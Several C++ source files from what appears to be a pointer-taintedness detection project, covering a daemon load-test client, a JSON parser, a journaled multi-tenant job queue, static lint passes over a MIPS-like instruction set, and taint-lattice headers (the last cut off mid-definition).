std::optional<std::string> Client::read_line() {
  for (;;) {
    const size_t nl = buffer_.find('\n');
    if (nl != std::string::npos) {
      std::string line = buffer_.substr(0, nl);
      buffer_.erase(0, nl + 1);
      return line;
    }
    char chunk[4096];
    const ssize_t n = ::recv(fd_, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return std::nullopt;
    }
    if (n == 0) return std::nullopt;
    buffer_.append(chunk, static_cast<size_t>(n));
  }
}

std::string Client::request(const std::string& line) {
  send_line(line);
  auto reply = read_line();
  if (!reply) throw std::runtime_error("daemon hung up mid-request");
  return *reply;
}

LoadStats run_load(const std::string& socket_path,
                   const std::vector<std::string>& spec_jsons,
                   uint64_t total_jobs, int connections, int batch) {
  if (spec_jsons.empty() || total_jobs == 0) return {};
  if (connections < 1) connections = 1;
  if (batch < 1) batch = 1;

  using clock = std::chrono::steady_clock;
  std::atomic<uint64_t> next_job{0};
  std::mutex merge_mutex;
  std::vector<double> latencies_ms;
  std::atomic<uint64_t> errors{0};
  latencies_ms.reserve(total_jobs);

  const auto t0 = clock::now();
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(connections));
  for (int c = 0; c < connections; ++c) {
    threads.emplace_back([&]() {
      std::vector<double> local;
      try {
        Client client(socket_path);
        for (;;) {
          // Claim the next batch of job indices; stop when the global
          // budget is spent.
          const uint64_t begin = next_job.fetch_add(
              static_cast<uint64_t>(batch));
          if (begin >= total_jobs) break;
          const uint64_t count =
              std::min<uint64_t>(static_cast<uint64_t>(batch),
                                 total_jobs - begin);
          std::ostringstream req;
          req << "{\"cmd\": \"submit\", \"stream\": true, \"jobs\": [";
          for (uint64_t i = 0; i < count; ++i) {
            req << (i ? ", " : "")
                << spec_jsons[(begin + i) % spec_jsons.size()];
          }
          req << "]}";
          const auto submit_at = clock::now();
          client.send_line(req.str());
          // One accepted line, then `count` verdict events in completion
          // order; each event's latency is measured against the batch's
          // submission instant.
          uint64_t seen = 0;
          bool accepted = false;
          while (seen < count) {
            const auto line = client.read_line();
            if (!line) {
              errors.fetch_add(count - seen);
              return;
            }
            if (line->find("\"event\": \"verdict\"") != std::string::npos) {
              const double ms =
                  std::chrono::duration<double, std::milli>(clock::now() -
                                                            submit_at)
                      .count();
              local.push_back(ms);
              ++seen;
            } else if (line->find("\"event\": \"accepted\"") !=
                       std::string::npos) {
              accepted = true;
            } else if (line->find("\"event\": \"error\"") !=
                       std::string::npos) {
              // Rejected batch (e.g. over quota): nothing will stream.
              errors.fetch_add(count);
              break;
            }
          }
          (void)accepted;
        }
      } catch (const std::exception&) {
        errors.fetch_add(1);
      }
      std::lock_guard<std::mutex> lock(merge_mutex);
      latencies_ms.insert(latencies_ms.end(), local.begin(), local.end());
    });
  }
  for (auto& t : threads) t.join();
  const auto t1 = clock::now();

  LoadStats stats;
  stats.jobs = latencies_ms.size();
  stats.errors = errors.load();
  stats.wall_s = std::chrono::duration<double>(t1 - t0).count();
  if (stats.wall_s > 0.0) {
    stats.jobs_per_sec = static_cast<double>(stats.jobs) / stats.wall_s;
  }
  if (!latencies_ms.empty()) {
    std::sort(latencies_ms.begin(), latencies_ms.end());
    const auto at = [&](double q) {
      const size_t i = static_cast<size_t>(
          q * static_cast<double>(latencies_ms.size() - 1));
      return latencies_ms[i];
    };
    stats.p50_ms = at(0.50);
    stats.p99_ms = at(0.99);
  }
  return stats;
}

}  // namespace ptaint::serve
