// Minimal JSON value model + parser for the serve protocol.
//
// The daemon speaks newline-delimited JSON (docs/SERVING.md): every
// request and journal record is one JSON object per line.  This parser
// covers exactly that need — objects, arrays, strings (with the escapes
// json_escape emits), numbers, booleans, null — and nothing more: no
// comments, no trailing commas, no unicode surrogate pairs.  Emission
// stays string-based (campaign::json_escape + snprintf) like the report
// layer; only the *reading* side needs a value model.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <stdexcept>
#include <string>
#include <vector>

namespace ptaint::serve {

class JsonError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

class JsonValue {
 public:
  enum class Kind { kNull, kBool, kNumber, kString, kArray, kObject };

  /// Parses one complete JSON document; throws JsonError on anything
  /// malformed (including trailing garbage).
  static JsonValue parse(const std::string& text);

  Kind kind() const { return kind_; }
  bool is_null() const { return kind_ == Kind::kNull; }
  bool is_object() const { return kind_ == Kind::kObject; }
  bool is_array() const { return kind_ == Kind::kArray; }
  bool is_string() const { return kind_ == Kind::kString; }

  /// Typed accessors; throw JsonError on a kind mismatch.
  bool as_bool() const;
  double as_number() const;
  uint64_t as_u64() const;  // number, rejected if negative or fractional
  const std::string& as_string() const;
  const std::vector<JsonValue>& as_array() const;

  /// Object member lookup; nullptr when absent (or not an object).
  const JsonValue* get(const std::string& key) const;

  /// Convenience lookups with defaults, for optional protocol fields.
  std::string get_string(const std::string& key,
                         const std::string& fallback = "") const;
  uint64_t get_u64(const std::string& key, uint64_t fallback = 0) const;
  bool get_bool(const std::string& key, bool fallback = false) const;

 private:
  Kind kind_ = Kind::kNull;
  bool bool_ = false;
  double number_ = 0.0;
  std::string string_;
  std::vector<JsonValue> array_;
  // Parsed objects are small (protocol requests, journal records); a
  // sorted map keeps lookup simple and deterministic.
  std::map<std::string, JsonValue> object_;

  friend class JsonParser;
};

}  // namespace ptaint::serve
