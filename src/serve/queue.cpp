#include "serve/queue.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>
#include <sstream>

#include "campaign/report.hpp"
#include "serve/json.hpp"

namespace ptaint::serve {

using campaign::json_escape;

std::string JobSpec::to_json() const {
  std::ostringstream ss;
  ss << "{\"tenant\": \"" << json_escape(tenant) << "\""
     << ", \"app\": \"" << json_escape(app) << "\""
     << ", \"payload\": \"" << json_escape(payload) << "\""
     << ", \"policy\": \"" << json_escape(policy) << "\"";
  if (!engine.empty()) ss << ", \"engine\": \"" << json_escape(engine) << "\"";
  if (elide) ss << ", \"elide\": true";
  if (!session.empty()) {
    ss << ", \"session\": [";
    for (size_t i = 0; i < session.size(); ++i) {
      ss << (i ? ", " : "") << "\"" << json_escape(session[i]) << "\"";
    }
    ss << "]";
  }
  if (!stdin_text.empty()) {
    ss << ", \"stdin\": \"" << json_escape(stdin_text) << "\"";
  }
  if (max_instructions != 0) {
    ss << ", \"max_instructions\": " << max_instructions;
  }
  if (timeout_ms != 0) ss << ", \"timeout_ms\": " << timeout_ms;
  ss << "}";
  return ss.str();
}

JobSpec JobSpec::from_json(const JsonValue& v) {
  JobSpec spec;
  spec.tenant = v.get_string("tenant", "default");
  spec.app = v.get_string("app");
  spec.payload = v.get_string("payload");
  spec.policy = v.get_string("policy", "paper");
  spec.engine = v.get_string("engine");
  spec.elide = v.get_bool("elide");
  if (const JsonValue* s = v.get("session")) {
    for (const JsonValue& line : s->as_array()) {
      spec.session.push_back(line.as_string());
    }
  }
  spec.stdin_text = v.get_string("stdin");
  spec.max_instructions = v.get_u64("max_instructions");
  spec.timeout_ms = v.get_u64("timeout_ms");
  if (spec.app.empty() || spec.payload.empty()) {
    throw std::invalid_argument("job spec needs \"app\" and \"payload\"");
  }
  if (spec.tenant.empty()) spec.tenant = "default";
  return spec;
}

JobQueue::JobQueue(Config config) : config_(std::move(config)) {
  replay();
  journal_fd_ = ::open(config_.journal_path.c_str(),
                       O_WRONLY | O_APPEND | O_CREAT, 0644);
  if (journal_fd_ < 0) {
    throw std::runtime_error("cannot open journal " + config_.journal_path +
                             ": " + std::strerror(errno));
  }
}

JobQueue::~JobQueue() {
  if (journal_fd_ >= 0) ::close(journal_fd_);
}

void JobQueue::replay() {
  std::ifstream in(config_.journal_path);
  if (!in) return;  // first start: no journal yet
  std::string line;
  // First pass collects terminal records so a submit already done or
  // cancelled is not re-enqueued (exactly-once), then pending submits are
  // queued in original id order.
  std::vector<std::pair<uint64_t, JobSpec>> submits;
  std::map<uint64_t, std::string> done_rows;
  std::map<uint64_t, bool> cancelled;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    JsonValue rec;
    try {
      rec = JsonValue::parse(line);
    } catch (const JsonError&) {
      // A torn final line from a crash mid-append; everything before it
      // is intact (records are appended with single writes).
      continue;
    }
    const std::string kind = rec.get_string("rec");
    const uint64_t id = rec.get_u64("id");
    if (id == 0) continue;
    if (id >= next_id_) next_id_ = id + 1;
    try {
      if (kind == "submit") {
        if (const JsonValue* spec = rec.get("spec")) {
          submits.emplace_back(id, JobSpec::from_json(*spec));
        }
      } else if (kind == "done") {
        // Keep the verdict row verbatim: everything after the `"result": `
        // marker up to the record's closing brace.  `result` is always the
        // last field of a done record, so no JSON re-serialization needed.
        const std::string marker = "\"result\": ";
        const size_t at = line.find(marker);
        if (at != std::string::npos && line.size() > at + marker.size()) {
          done_rows[id] = line.substr(at + marker.size(),
                                      line.size() - at - marker.size() - 1);
        } else {
          done_rows[id] = "{}";
        }
      } else if (kind == "cancel") {
        cancelled[id] = true;
      }
    } catch (const std::exception&) {
      continue;  // one bad record must not poison the replay
    }
  }
  for (auto& [id, spec] : submits) {
    if (cancelled.count(id)) {
      cancelled_[id] = spec.tenant;
      ++tenant_counts(spec.tenant).cancelled;
      continue;
    }
    if (auto it = done_rows.find(id); it != done_rows.end()) {
      done_[id] = it->second;
      done_tenant_[id] = spec.tenant;
      ++tenant_counts(spec.tenant).done;
      continue;
    }
    // Accepted but unfinished at crash time: re-enqueue.  A job that was
    // mid-run when the daemon died re-executes from its snapshot — the
    // guest is deterministic, so the eventual (single) verdict row is the
    // one the lost run would have produced.
    queues_[spec.tenant].push_back(id);
    ++tenant_counts(spec.tenant).queued;
    pending_[id] = Pending{std::move(spec)};
    ++replayed_;
  }
}

void JobQueue::append_record(const std::string& line) {
  // One write() per record: an O_APPEND write of a short line lands whole,
  // so kill -9 can tear at most the final record (replay skips it).  Data
  // reaches the kernel page cache immediately — surviving process death —
  // without an fsync per job (power-loss durability is out of scope).
  std::string out = line;
  out += '\n';
  size_t off = 0;
  while (off < out.size()) {
    const ssize_t n = ::write(journal_fd_, out.data() + off, out.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      throw std::runtime_error(std::string("journal write failed: ") +
                               std::strerror(errno));
    }
    off += static_cast<size_t>(n);
  }
}

JobQueue::Counts& JobQueue::tenant_counts(const std::string& tenant) {
  return tenants_[tenant];
}

uint64_t JobQueue::submit(const JobSpec& spec) {
  std::lock_guard<std::mutex> lock(mutex_);
  if (!accepting_ || stopping_) {
    throw std::runtime_error("queue is draining; submissions closed");
  }
  if (config_.tenant_quota > 0) {
    const Counts& c = tenant_counts(spec.tenant);
    if (c.queued + c.running >=
        static_cast<uint64_t>(config_.tenant_quota)) {
      throw QuotaError("tenant \"" + spec.tenant + "\" is over quota (" +
                       std::to_string(config_.tenant_quota) + " live jobs)");
    }
  }
  const uint64_t id = next_id_++;
  append_record("{\"rec\": \"submit\", \"id\": " + std::to_string(id) +
                ", \"spec\": " + spec.to_json() + "}");
  queues_[spec.tenant].push_back(id);
  ++tenant_counts(spec.tenant).queued;
  pending_[id] = Pending{spec};
  work_cv_.notify_one();
  return id;
}

bool JobQueue::cancel(uint64_t id) {
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = pending_.find(id);
  if (it == pending_.end()) return false;
  const std::string tenant = it->second.spec.tenant;
  append_record("{\"rec\": \"cancel\", \"id\": " + std::to_string(id) + "}");
  auto& q = queues_[tenant];
  for (auto qit = q.begin(); qit != q.end(); ++qit) {
    if (*qit == id) {
      q.erase(qit);
      break;
    }
  }
  pending_.erase(it);
  Counts& c = tenant_counts(tenant);
  --c.queued;
  ++c.cancelled;
  cancelled_[id] = tenant;
  idle_cv_.notify_all();
  return true;
}

std::optional<JobQueue::Acquired> JobQueue::acquire() {
  std::unique_lock<std::mutex> lock(mutex_);
  for (;;) {
    // Fair pick: the first tenant strictly after the cursor with queued
    // work, wrapping — a round-robin over tenant names.
    auto pick = [&]() -> std::deque<uint64_t>* {
      if (queues_.empty()) return nullptr;
      auto it = queues_.upper_bound(fair_cursor_);
      for (size_t i = 0; i < queues_.size() + 1; ++i) {
        if (it == queues_.end()) it = queues_.begin();
        if (!it->second.empty()) {
          fair_cursor_ = it->first;
          return &it->second;
        }
        ++it;
      }
      return nullptr;
    };
    if (std::deque<uint64_t>* q = pick()) {
      const uint64_t id = q->front();
      q->pop_front();
      auto it = pending_.find(id);
      Acquired out{id, std::move(it->second.spec)};
      pending_.erase(it);
      Counts& c = tenant_counts(out.spec.tenant);
      --c.queued;
      ++c.running;
      running_[id] = out.spec.tenant;
      return out;
    }
    if (stopping_) return std::nullopt;
    work_cv_.wait(lock);
  }
}

void JobQueue::complete(uint64_t id, const std::string& result_json) {
  std::lock_guard<std::mutex> lock(mutex_);
  append_record("{\"rec\": \"done\", \"id\": " + std::to_string(id) +
                ", \"result\": " + result_json + "}");
  auto it = running_.find(id);
  const std::string tenant = it != running_.end() ? it->second : "default";
  if (it != running_.end()) running_.erase(it);
  Counts& c = tenant_counts(tenant);
  if (c.running > 0) --c.running;
  ++c.done;
  done_[id] = result_json;
  done_tenant_[id] = tenant;
  idle_cv_.notify_all();
}

void JobQueue::close_submissions() {
  std::lock_guard<std::mutex> lock(mutex_);
  accepting_ = false;
}

void JobQueue::stop() {
  std::lock_guard<std::mutex> lock(mutex_);
  stopping_ = true;
  accepting_ = false;
  work_cv_.notify_all();
  idle_cv_.notify_all();
}

void JobQueue::wait_idle() {
  std::unique_lock<std::mutex> lock(mutex_);
  idle_cv_.wait(lock, [&]() {
    return pending_.empty() && running_.empty();
  });
}

JobQueue::State JobQueue::state(uint64_t id) const {
  std::lock_guard<std::mutex> lock(mutex_);
  if (pending_.count(id)) return State::kQueued;
  if (running_.count(id)) return State::kRunning;
  if (done_.count(id)) return State::kDone;
  if (cancelled_.count(id)) return State::kCancelled;
  return State::kUnknown;
}

std::optional<std::string> JobQueue::result_json(uint64_t id) const {
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = done_.find(id);
  if (it == done_.end()) return std::nullopt;
  return it->second;
}

JobQueue::Status JobQueue::status() const {
  std::lock_guard<std::mutex> lock(mutex_);
  Status out;
  out.tenants = tenants_;
  out.replayed = replayed_;
  out.accepting = accepting_ && !stopping_;
  for (const auto& [tenant, c] : tenants_) {
    out.total.queued += c.queued;
    out.total.running += c.running;
    out.total.done += c.done;
    out.total.cancelled += c.cancelled;
  }
  return out;
}

}  // namespace ptaint::serve
