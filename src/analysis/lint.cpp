#include "analysis/lint.hpp"

#include <algorithm>
#include <cstdio>
#include <deque>
#include <optional>

#include "analysis/effects.hpp"
#include "analysis/lattice.hpp"
#include "analysis/stack_height.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {

using isa::Instruction;
using isa::Op;
using isa::OpClass;

namespace {

constexpr int kHi = RegState::kHi;
constexpr int kLo = RegState::kLo;

std::string reg_str(int r) {
  if (r == kHi) return "$hi";
  if (r == kLo) return "$lo";
  return std::string(isa::reg_name(static_cast<uint8_t>(r)));  // "$sN"-style
}

/// True when `pc` carries a text label: a potential alternate entry point
/// (e.g. `send:` sharing code with `recv:`) even if nothing jumps there.
bool is_labeled(const Cfg& cfg, uint32_t pc) {
  const auto& labels = cfg.program().text_labels;
  return std::binary_search(
      labels.begin(), labels.end(), std::pair<uint32_t, std::string>{pc, {}},
      [](const auto& a, const auto& b) { return a.first < b.first; });
}

const char* func_name(const Cfg& cfg, int f) {
  return f >= 0 ? cfg.functions()[static_cast<size_t>(f)].name.c_str() : "?";
}

// ---- use-before-def --------------------------------------------------------
//
// Per-function forward must-defined dataflow.  Live-in at a function entry:
// everything with a calling-convention value ($zero/$at/args/s-regs/$k/$gp/
// $sp/$fp/$ra).  Caller-saved results ($v0/$v1), temporaries and HI/LO are
// undefined until written.  A call defines $v0/$v1/$ra.
void lint_use_before_def(const Cfg& cfg, std::vector<LintFinding>& out) {
  using Mask = uint64_t;
  constexpr Mask kAll = (Mask{1} << RegState::kCount) - 1;
  auto bit = [](int r) { return Mask{1} << r; };

  Mask entry_defined = 0;
  for (int r :
       {isa::kZero, isa::kAt, isa::kA0, isa::kA1, isa::kA2, isa::kA3,
        isa::kS0, isa::kS1, isa::kS2, isa::kS3, isa::kS4, isa::kS5,
        isa::kS6, isa::kS7, isa::kK0, isa::kK1, isa::kGp, isa::kSp,
        isa::kFp, isa::kRa}) {
    entry_defined |= bit(r);
  }

  const auto& blocks = cfg.blocks();
  std::vector<Mask> in(blocks.size(), kAll);  // top of the must-lattice
  std::vector<bool> has_in(blocks.size(), false);
  std::vector<std::pair<uint32_t, int>> reported;

  for (const Function& f : cfg.functions()) {
    std::deque<int> worklist;
    const int entry_block = cfg.block_at(f.entry);
    if (entry_block < 0) continue;
    in[static_cast<size_t>(entry_block)] = entry_defined;
    has_in[static_cast<size_t>(entry_block)] = true;
    worklist.push_back(entry_block);

    while (!worklist.empty()) {
      const int b = worklist.front();
      worklist.pop_front();
      const BasicBlock& bb = blocks[static_cast<size_t>(b)];
      Mask defined = in[static_cast<size_t>(b)];

      for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
        const Instruction& inst = cfg.inst_at(pc);
        const Effects e = effects_of(inst);
        for (int r : e.reads) {
          if (r < 0 || (defined & bit(r))) continue;
          if (std::find(reported.begin(), reported.end(),
                        std::pair<uint32_t, int>{pc, r}) != reported.end()) {
            continue;
          }
          reported.emplace_back(pc, r);
          out.push_back({LintKind::kUseBeforeDef, pc, f.name,
                         "use of " + reg_str(r) + " before definition: " +
                             isa::disassemble(inst, pc)});
          defined |= bit(r);  // report each register once per path
        }
        for (int r : e.writes) {
          if (r >= 0) defined |= bit(r);
        }
        if (is_call(inst)) {
          defined |= bit(isa::kV0) | bit(isa::kV1) | bit(isa::kRa);
        }
      }

      // Intra-procedural propagation only: stay within this function's
      // blocks (call/return edges are modeled by the call summary above).
      // A returning block's successors are the call-return sites — an
      // interprocedural edge even when mis-attribution puts both ends in
      // the same recovered function.
      if (bb.returns) continue;
      for (int succ : bb.succs) {
        if (succ < 0 ||
            blocks[static_cast<size_t>(succ)].function != bb.function) {
          continue;
        }
        auto us = static_cast<size_t>(succ);
        const Mask next = has_in[us] ? (in[us] & defined) : defined;
        if (!has_in[us] || next != in[us]) {
          in[us] = next;
          has_in[us] = true;
          worklist.push_back(succ);
        }
      }
    }
  }
}

// ---- unreachable blocks ----------------------------------------------------

void lint_unreachable(const Cfg& cfg, std::vector<LintFinding>& out) {
  const std::vector<bool> reachable = cfg.reachable_blocks();
  const auto& blocks = cfg.blocks();
  const auto& labels = cfg.program().text_labels;

  // Group blocks by nearest preceding text label.  A region none of whose
  // blocks run is an unused library routine (this link never calls it), not
  // dead code; only a dead block inside a region that does run is a finding.
  auto region_of = [&](uint32_t pc) -> int {
    auto it = std::upper_bound(
        labels.begin(), labels.end(), std::pair<uint32_t, std::string>{pc, {}},
        [](const auto& a, const auto& b) { return a.first < b.first; });
    return static_cast<int>(it - labels.begin()) - 1;
  };
  std::vector<bool> region_live(labels.size() + 1, false);
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (reachable[b]) {
      region_live[static_cast<size_t>(region_of(blocks[b].begin) + 1)] = true;
    }
  }

  for (size_t b = 0; b < blocks.size(); ++b) {
    if (reachable[b]) continue;
    const BasicBlock& bb = blocks[b];
    if (!region_live[static_cast<size_t>(region_of(bb.begin) + 1)]) continue;
    // A labeled block inside a live region is an alternate entry point
    // (`send`/`recv` share a body) — unreferenced, not unreachable.
    if (is_labeled(cfg, bb.begin)) continue;
    bool only_padding = true;
    for (uint32_t pc = bb.begin; pc < bb.end && only_padding; pc += 4) {
      const Instruction& inst = cfg.inst_at(pc);
      only_padding = is_nop(inst) || inst.op == Op::kBreak ||
                     inst.op == Op::kInvalid;
    }
    if (only_padding) continue;  // .align fill, data-in-text, guard traps
    char msg[96];
    std::snprintf(msg, sizeof msg, "unreachable block of %zu instruction(s)",
                  bb.size());
    out.push_back({LintKind::kUnreachableBlock, bb.begin,
                   func_name(cfg, bb.function), msg});
  }
}

// ---- stack imbalance -------------------------------------------------------
//
// Consumes the shared stack-height facts (stack_height.cpp): $sp as a
// constant delta from the function-entry value.  Any non-constant adjustment
// (or conflicting deltas at a join) is absent from the facts and never
// reported.  The same facts key the frame cells of the value-set prover, so
// the lint and the prover agree on frame layout by construction.
void lint_stack_imbalance(const Cfg& cfg, std::vector<LintFinding>& out) {
  const StackHeights heights = compute_stack_heights(cfg);
  const auto& blocks = cfg.blocks();
  for (const Function& f : cfg.functions()) {
    for (int b : f.blocks) {
      const BasicBlock& bb = blocks[static_cast<size_t>(b)];
      for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
        const Instruction& inst = cfg.inst_at(pc);
        if (inst.op != Op::kJr || inst.rs != isa::kRa) continue;
        const std::optional<int32_t> d = heights.at(pc);
        if (!d.has_value() || *d == 0) continue;
        char msg[96];
        std::snprintf(msg, sizeof msg,
                      "$sp off by %+d bytes at return (push/pop imbalance)",
                      *d);
        out.push_back({LintKind::kStackImbalance, pc, f.name, msg});
      }
    }
  }
}

// ---- clobbered callee-saved ------------------------------------------------
//
// Syntactic rule: a returning function that writes an s-register or $fp must
// spill it somewhere in its body (`sw $sN, ...`).  Restores are not checked —
// a spill with a bad restore shows up as a use-before-def or a test failure,
// not here.
void lint_clobbered_callee_saved(const Cfg& cfg,
                                 std::vector<LintFinding>& out) {
  const auto& blocks = cfg.blocks();
  for (const Function& f : cfg.functions()) {
    // "__"-prefixed helpers opt out of the standard convention (e.g.
    // __pf_putc keeps the running count in $s5 which its caller spills).
    if (f.name.rfind("__", 0) == 0) continue;
    bool returns = false;
    uint32_t written[isa::kNumRegs] = {};  // first write PC, 0 = none
    bool spilled[isa::kNumRegs] = {};
    for (int b : f.blocks) {
      const BasicBlock& bb = blocks[static_cast<size_t>(b)];
      if (bb.returns) returns = true;
      for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
        const Instruction& inst = cfg.inst_at(pc);
        if (inst.op == Op::kSw) {
          spilled[inst.rt] = true;
          continue;
        }
        const Effects e = effects_of(inst);
        for (int w : e.writes) {
          if (w < 0 || w >= isa::kNumRegs) continue;
          const bool callee_saved =
              (w >= isa::kS0 && w <= isa::kS7) || w == isa::kFp;
          if (callee_saved && written[w] == 0) written[w] = pc;
        }
      }
    }
    if (!returns) continue;  // _start & noreturn helpers own every register
    for (int r = 0; r < isa::kNumRegs; ++r) {
      if (written[r] != 0 && !spilled[r]) {
        out.push_back({LintKind::kClobberedCalleeSaved, written[r], f.name,
                       "callee-saved " + reg_str(r) +
                           " written but never spilled"});
      }
    }
  }
}

/// Info-level: sites where the recovered CFG falls back to conservative
/// fanout — `jr $other` targets every labeled block, `jalr` calls every
/// known function.  These are exactly the spots where function summaries
/// and elision precision degrade (the VSA smashes the abstract state), so
/// the sweep surfaces them for annotation or rewriting.
void lint_analysis_opaque(const Cfg& cfg, std::vector<LintFinding>& out) {
  char msg[128];
  for (const BasicBlock& bb : cfg.blocks()) {
    const uint32_t last_pc = bb.end - 4;
    const Instruction& last = cfg.inst_at(last_pc);
    if (bb.indirect_jump) {
      std::snprintf(msg, sizeof msg,
                    "computed jump: fanout assumed over all %zu labeled "
                    "blocks",
                    bb.succs.size());
    } else if (last.op == Op::kJalr) {
      std::snprintf(msg, sizeof msg,
                    "indirect call: summaries smashed, fanout over all %zu "
                    "function entries",
                    bb.call_succs.size());
    } else {
      continue;
    }
    out.push_back({LintKind::kAnalysisOpaque, last_pc,
                   func_name(cfg, bb.function), msg});
  }
}

}  // namespace

const char* to_string(LintKind kind) {
  switch (kind) {
    case LintKind::kUseBeforeDef: return "use-before-def";
    case LintKind::kUnreachableBlock: return "unreachable-block";
    case LintKind::kStackImbalance: return "stack-imbalance";
    case LintKind::kClobberedCalleeSaved: return "clobbered-callee-saved";
    case LintKind::kAnalysisOpaque: return "analysis-opaque";
  }
  return "?";
}

bool lint_is_info(LintKind kind) {
  return kind == LintKind::kAnalysisOpaque;
}

std::vector<LintFinding> run_lints(const Cfg& cfg) {
  std::vector<LintFinding> findings;
  lint_use_before_def(cfg, findings);
  lint_unreachable(cfg, findings);
  lint_stack_imbalance(cfg, findings);
  lint_clobbered_callee_saved(cfg, findings);
  lint_analysis_opaque(cfg, findings);
  std::sort(findings.begin(), findings.end(),
            [](const LintFinding& a, const LintFinding& b) {
              if (a.pc != b.pc) return a.pc < b.pc;
              return static_cast<int>(a.kind) < static_cast<int>(b.kind);
            });
  return findings;
}

std::string format_findings(const std::vector<LintFinding>& findings) {
  std::string out;
  char head[64];
  for (const LintFinding& f : findings) {
    std::snprintf(head, sizeof head, "%08x: %s: ", f.pc, to_string(f.kind));
    out += head;
    out += f.message;
    out += " [in " + f.function + "]\n";
  }
  return out;
}

}  // namespace ptaint::analysis
