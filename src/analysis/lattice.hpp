// Abstract taint lattice for the static pointer-taintedness analyzer.
//
// The dynamic detector (src/cpu) tracks one taint bit per byte.  The static
// analyzer abstracts a whole 32-bit register into a three-point lattice:
//
//     Untainted  <  MaybeTainted  <  Top
//
//   * Untainted     — no byte of the register can be tainted on any
//                     execution reaching this point (a *must* claim; only
//                     these sites are eligible for check elision);
//   * MaybeTainted  — some execution may leave a tainted byte here (the
//                     abstract image of every load, since memory contents
//                     are summarized as possibly tainted);
//   * Top           — no information (states merged across unresolved
//                     indirect control flow).
//
// Join is max; the transfer function is monotone, so the worklist iteration
// in taint_analyzer.cpp terminates.  Soundness direction: the static value
// must always be >= the dynamic taintedness, never below it.
#pragma once

#include <array>
#include <cstdint>

#include "isa/isa.hpp"

namespace ptaint::analysis {

enum class Taint : uint8_t {
  kUntainted = 0,
  kMaybeTainted = 1,
  kTop = 2,
};

constexpr Taint join(Taint a, Taint b) { return a < b ? b : a; }

/// True when the abstract value admits a tainted byte — i.e. the dynamic
/// detector could fire on a dereference of this register.
constexpr bool may_be_tainted(Taint t) { return t != Taint::kUntainted; }

const char* to_string(Taint t);

/// Abstract register state: the 32 general registers plus HI and LO.
/// $zero is pinned to Untainted by every mutator.
struct RegState {
  static constexpr int kHi = 32;
  static constexpr int kLo = 33;
  static constexpr int kCount = 34;

  std::array<Taint, kCount> regs{};  // value-initialized: all Untainted

  Taint get(int r) const { return regs[static_cast<size_t>(r)]; }
  void set(int r, Taint t) {
    if (r == isa::kZero) return;  // hardwired zero stays untainted
    regs[static_cast<size_t>(r)] = t;
  }

  /// In-place join; returns true when this state changed (worklist driver).
  bool join_with(const RegState& other) {
    bool changed = false;
    for (int i = 0; i < kCount; ++i) {
      const Taint j = join(regs[static_cast<size_t>(i)],
                           other.regs[static_cast<size_t>(i)]);
      if (j != regs[static_cast<size_t>(i)]) {
        regs[static_cast<size_t>(i)] = j;
        changed = true;
      }
    }
    return changed;
  }

  bool operator==(const RegState&) const = default;
};

}  // namespace ptaint::analysis
