// Abstract taint lattice for the static pointer-taintedness analyzer.
//
// The dynamic detector (src/cpu) tracks one taint bit per byte.  The static
// analyzer abstracts a whole 32-bit register into a three-point lattice:
//
//     Untainted  <  MaybeTainted  <  Top
//
//   * Untainted     — no byte of the register can be tainted on any
//                     execution reaching this point (a *must* claim; only
//                     these sites are eligible for check elision);
//   * MaybeTainted  — some execution may leave a tainted byte here (the
//                     abstract image of every load, since memory contents
//                     are summarized as possibly tainted);
//   * Top           — no information (states merged across unresolved
//                     indirect control flow).
//
// Join is max; the transfer function is monotone, so the worklist iteration
// in taint_analyzer.cpp terminates.  Soundness direction: the static value
// must always be >= the dynamic taintedness, never below it.
#pragma once

#include <array>
#include <cstdint>

#include "isa/isa.hpp"
#include "mem/taint.hpp"

namespace ptaint::analysis {

enum class Taint : uint8_t {
  kUntainted = 0,
  kMaybeTainted = 1,
  kTop = 2,
};

constexpr Taint join(Taint a, Taint b) { return a < b ? b : a; }

/// True when the abstract value admits a tainted byte — i.e. the dynamic
/// detector could fire on a dereference of this register.
constexpr bool may_be_tainted(Taint t) { return t != Taint::kUntainted; }

const char* to_string(Taint t);

// ---- value sets ------------------------------------------------------------
//
// The memory-aware prover (vsa.cpp) needs to know *where* a register points,
// not just whether it is tainted.  A ValueSet is a coarse abstraction of the
// set of concrete values a register may hold:
//
//        kConst(v)      exactly the constant v
//        kStackRel(c)   exactly (function-entry $sp) + c
//          |    |
//        kDataRegion    some address in [kDataBase, kStackLimit)
//        kStackRegion   some address in [kStackLimit, kStackTop)
//          |    |
//             kAny      anything
//
// Joins of unequal precise values degrade to the region containing both, or
// to kAny across regions.  Region kinds are closed under pointer arithmetic:
// "region + unknown offset" stays in the region.  This is the standard VSA
// in-region assumption — a computed address is assumed not to wander out of
// the allocation area its base came from.  It is *weaker* than full
// soundness (a wild offset can physically reach another region); the
// bidirectional `ptaint-campaign --static-check` leg revalidates it
// empirically against every dynamic alert, mirroring the recovered-CFG
// caveat already documented for the register-only analyzer.
enum class VsKind : uint8_t {
  kConst = 0,       // exactly `value`
  kStackRel = 1,    // function-entry $sp plus `value` (byte offset)
  kStackRegion = 2, // somewhere in the stack
  kDataRegion = 3,  // somewhere in globals/heap (brk-grown)
  kAny = 4,         // no information
};

/// Coarse address-space classification used when constants collide in a join
/// and when deciding which memory cells a load/store can touch.
enum class Region : uint8_t { kText, kData, kStack, kArgv, kOther };

constexpr Region region_of_addr(uint32_t addr) {
  if (addr >= isa::layout::kStackTop) return Region::kArgv;
  if (addr >= isa::layout::kStackLimit) return Region::kStack;
  if (addr >= isa::layout::kDataBase) return Region::kData;
  if (addr >= isa::layout::kTextBase) return Region::kText;
  return Region::kOther;
}

struct ValueSet {
  VsKind kind = VsKind::kAny;
  int32_t value = 0;  // kConst: the constant; kStackRel: frame byte offset

  static constexpr ValueSet constant(int32_t v) {
    return {VsKind::kConst, v};
  }
